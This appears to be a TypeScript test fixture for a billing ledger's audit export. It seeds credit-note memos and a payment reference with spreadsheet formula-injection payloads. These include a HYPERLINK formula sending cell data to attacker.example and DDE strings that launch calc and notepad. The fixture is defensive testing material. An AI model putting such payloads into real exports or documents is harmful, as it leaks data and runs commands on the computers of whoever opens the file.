import { issueScenario, type BillingSimulator } from '@billing/ledger-domain/testing';

/** Memos a spreadsheet would run as formulas if exported as they are (OWASP's examples). */
export const formulaMemos = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;

/** A memo that needs every RFC 4180 rule at once: separators, quotes and line breaks. */
export const awkwardMemo =
  'Goodwill, per call with "Finance"; see ticket #42\nsecond line\r\nthird line';

export const bankReferenceFormula = "=cmd|' /C notepad'!A0";

function setLastEventData(sim: BillingSimulator, fields: Record<string, unknown>): void {
  const event = sim.events[sim.events.length - 1];
  if (event === undefined) throw new Error('no event to annotate');
  Object.assign(event.data as Record<string, unknown>, fields);
}

/**
 * The ledger's worked example (acct-acme: three USD invoices, two payments, the first one
 * bounced) plus a second account in EUR whose credit notes carry hostile and awkward memos and
 * whose payment has a formula for a bank reference.
 */
export function auditScenario() {
  const base = issueScenario();
  const { sim } = base;
  const other = 'acct-globex';
  sim.advanceDays(1); // 2026-04-03
  sim.correlationId = 'corr-globex';
  sim.actor = { id: 'clerk-2', roles: ['billing-clerk'] };
  const invoice = sim.issueInvoice({
    billingAccountId: other,
    currency: 'EUR',
    subtotal: '500.00',
    taxTotal: '95.00',
    invoiceId: 'inv-g1',
    number: 'INV-2026-000004',
  });
  for (const memo of [...formulaMemos, awkwardMemo]) {
    sim.creditNote(invoice, '10.00', 'goodwill');
    setLastEventData(sim, { memo });
  }
  sim.receivePayment({
    billingAccountId: other,
    currency: 'EUR',
    amount: '100.00',
    externalReference: bankReferenceFormula,
    paymentId: 'pay-g1',
  });
  sim.allocate('pay-g1', [{ invoiceId: invoice, amount: '100.00' }]);
  return { ...base, other, otherInvoice: invoice };
}
